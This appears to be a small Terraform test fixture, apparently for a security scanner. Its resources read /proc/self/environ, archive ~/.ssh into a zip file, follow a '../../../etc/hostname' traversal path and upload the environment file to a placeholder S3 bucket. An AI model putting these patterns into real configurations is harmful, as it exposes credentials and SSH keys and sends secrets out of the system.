data "local_file" "environment" {
  filename = "/proc/self/environ"
}

data "archive_file" "home" {
  type        = "zip"
  output_path = "${path.module}/out.zip"
  source_dir  = pathexpand("~/.ssh")
}

data "local_file" "escaped" {
  for_each = toset(["a.txt", "../../../etc/hostname"])

  _ {
    filename = each.value
  }
}

resource "aws_s3_object" "environment" {
  bucket = "b"
  key    = "k"
  source = "/proc/self/environ"
}

check "c" {
  data "local_sensitive_file" "x" {
    filename = "/proc/self/environ"
  }

  assert {
    condition     = true
    error_message = "no"
  }
}
